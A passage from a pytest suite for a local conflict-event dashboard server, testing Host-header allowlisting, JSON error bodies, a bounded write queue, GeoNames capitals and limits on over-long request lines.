    assert "evil.example" in json.loads(body)["message"] and "--allow-host" in json.loads(body)["message"]
    assert raw_get(server.url, "/", host=f"evil.example:{port}")[0] == 400
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "localhost", f"[::1]:{port}", "LOCALHOST"):
        assert raw_get(server.url, "/api/health", host=host)[0] == 200, host
    # --allow-host adds a name (any port); the defaults stay
    assert raw_get(synthetic.url, "/api/health", host="dashboard.example:8443")[0] == 200
    assert raw_get(synthetic.url, "/api/health", host="localhost")[0] == 200
    assert raw_get(synthetic.url, "/api/health", host="evil.example")[0] == 400


def test_bad_allow_host_is_a_usage_error(tmp_path):
    for value, words in (("http://x.example", "--allow-host 'http://x.example'"), ("a.*.example", "--allow-host 'a.*.example'")):
        done = run_cli("serve", "--db", str(tmp_path / "x.db"), "--port", "0", "--allow-host", value)
        assert done.returncode == 2, done.stderr
        assert words in done.stderr and "Traceback" not in done.stderr


def test_every_error_is_one_json_body_with_a_message(api, server):
    """Finding 8: 404, 403, 422 and the Host 400 all answer JSON with a one-line message."""
    answers = [
        api.get("/api/events/ev_0000000000000000"),
        api.get("/api/articles/" + "a" * 300),
        api.post("/api/articles", json=ARTICLE),
        api.get("/api/events", params={"limit": "many"}),
        api.get("/api/nothing-here"),
    ]
    for got in answers:
        body = got.json()
        assert got.status_code >= 400 and isinstance(body["message"], str) and body["message"], got.text
        assert "\n" not in body["message"] and "Traceback" not in got.text
    status, _, body = raw_get(server.url, "/api/events", host="evil.example")
    assert status == 400 and json.loads(body)["message"]


def many_articles(n: int) -> str:
    towns = ["Kismayo", "Mandera", "Garissa", "Lamu", "Maiduguri", "Konduga", "Gao", "Mopti", "Baidoa", "Wajir"]
    lines = []
    for i in range(n):
        town = towns[i % len(towns)]
        lines.append(json.dumps({
            "id": f"queue-{i}", "published": f"2024-0{1 + i % 9}-{1 + i % 28:02d}",
            "text": f"Militants attacked an army base near {town} on Friday, killing {2 + i % 9} soldiers and wounding "
                    f"{1 + i % 7} others, a military official said (report {i}). The attackers fled after a gun battle.",
        }))
    return "\n".join(lines) + "\n"


def test_writes_queue_is_bounded_and_reads_go_on(tmp_path):
    """Finding 7: one slow POST made every other writer wait (and held a thread each). With
    --write-queue 1 and a large batch being extracted, the next POST is a 429 with
    Retry-After at once, and reads still answer."""
    import threading
    import time

    auth = {"Authorization": f"Bearer {TOKEN}"}
    with ServerProcess(tmp_path / "q.db", "--allow-writes", "--write-queue", "1", env={"CLASHWATCH_API_TOKEN": TOKEN}) as s:
        outcome: dict = {}

        def big_batch():
            outcome["response"] = httpx.post(s.url + "/api/articles", content=many_articles(150), timeout=600,
                                             headers={**auth, "Content-Type": "application/x-ndjson"})

        writer = threading.Thread(target=big_batch)
        writer.start()
        time.sleep(1.0)
        assert writer.is_alive(), "the batch should take a while to extract"
        started = time.monotonic()
        busy = httpx.post(s.url + "/api/articles", json=ARTICLE, headers=auth, timeout=5)
        assert busy.status_code == 429, busy.text
        assert 1 <= int(busy.headers["retry-after"]) <= 60
        assert "--write-queue" in busy.json()["message"]
        reads = [httpx.get(s.url + "/api/events", timeout=10), httpx.get(s.url + "/api/stats", timeout=10),
                 httpx.get(s.url + "/api/health", timeout=10)]
        assert all(r.status_code == 200 for r in reads)
        assert time.monotonic() - started < 5, "reads should not wait for the write"
        assert writer.is_alive(), "the 429 and the reads came while the batch was in flight"
        writer.join(timeout=600)
        report = outcome["response"]
        assert report.status_code == 200, report.text
        assert report.json()["new"] == 150
        after = httpx.post(s.url + "/api/articles", json=ARTICLE, headers=auth, timeout=120)
        assert after.status_code == 200 and after.json()["new"] == 1


def test_basemap_capitals_come_from_the_installed_geonames_data(api):
    got = api.get("/api/basemap/capitals")
    assert got.status_code == 200
    rows = {row["country_code"]: row for row in got.json()}
    assert len(rows) > 200
    assert rows["KG"]["name"] == "Bishkek" and rows["KG"]["country"] == "Kyrgyzstan"
    assert abs(rows["KG"]["latitude"] - 42.87) < 0.1 and abs(rows["KG"]["longitude"] - 74.59) < 0.1
    assert rows["KE"]["name"] == "Nairobi"
    assert rows["LI"]["name"] == "Vaduz"  # a capital of fewer than 15,000 people is found too
    assert all(set(row) == {"name", "country", "country_code", "latitude", "longitude", "population"} for row in rows.values())


def test_request_lines_past_80_kb_are_refused_by_httptools_and_answered_in_json_by_h11(corpus_db, server):
    """serve's default parser, httptools, refuses a request line over its 80 KB limit with a
    400 of its own (never a 5xx, and it goes on serving); --http h11 serves the same pages
    and lets the API answer any length with its JSON 422."""
    status, _, _ = raw_get(server.url, f"/api/events?text={'x' * 100_000}")
    assert status == 400
    assert httpx.get(server.url + "/api/health", timeout=60).status_code == 200  # still serving
    with ServerProcess(corpus_db, "--http", "h11", "--no-cache") as slow:
        same = httpx.get(slow.url + "/api/events", params={"limit": 5}, timeout=60)
        assert same.status_code == 200 and same.json() == httpx.get(server.url + "/api/events", params={"limit": 5}, timeout=60).json()
        status, _, body = raw_get(slow.url, f"/api/events?text={'x' * 100_000}")
        assert status == 422 and json.loads(body)["message"] == "text: text filter longer than 200 characters"
